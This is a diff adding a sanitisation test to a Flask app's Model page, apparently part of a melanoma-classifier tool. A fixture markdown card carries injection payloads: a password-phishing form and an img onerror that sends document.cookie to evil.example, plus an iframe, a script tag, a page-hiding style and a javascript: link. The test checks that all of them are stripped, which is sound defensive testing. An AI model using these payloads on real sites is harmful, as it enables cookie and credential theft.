@@ -73,3 +73,40 @@ def test_model_page_shows_test_figures_points_and_counts(app: Flask, settings: A
     assert "ISIC-2017_Training_Part3_GroundTruth.csv: 1995 training images" in html
     assert f"<strong>{in_use}</strong>" in html
     assert "77.0%" in html and "69.2%" not in html  # no multiclass figure for a melanoma-only set
+
+
+HOSTILE_CARD = """# Card
+
+Please sign in again:
+
+<form action="https://evil.example/steal" method="post"><input name="password" type="password">
+<button formaction="https://evil.example/b">Sign in</button></form>
+
+<img src="missing.png" onerror="fetch('https://evil.example/'+document.cookie)">
+<iframe src="https://evil.example/"></iframe><script>alert(1)</script><style>main{display:none}</style>
+
+[details](javascript:alert(1)) and [the paper](https://example.org/paper)
+
+| metric | value |
+|---|---:|
+| AUC | 0.9 |
+"""
+
+
+def test_model_card_html_is_sanitised(app: Flask, settings: Any) -> None:
+    """A card holding a form, an <img onerror>, a frame, a script, a style and a javascript: link shows none of
+    them on the Model page; its text, table alignment and ordinary links stay."""
+    folder = _bundle_folder(settings)
+    (folder / "MODEL_CARD.md").write_text(HOSTILE_CARD)
+    _clinic, _key, email = make_user(settings)
+    client = app.test_client()
+    sign_in(client, email)
+    page = client.get("/model")
+    assert page.status_code == 200
+    main = page.text.split("<main", 1)[1]
+    for injected in ("evil.example", "<form action", "<input name=\"password\"", "onerror", "<iframe", "<script>",
+                     "alert(1)", "<style>", "javascript:"):
+        assert injected not in main, injected
+    assert "Please sign in again" in main and 'class="align-right"' in main
+    assert '<a href="https://example.org/paper" rel="noopener noreferrer">the paper</a>' in main
+    assert '<img src="missing.png">' in main
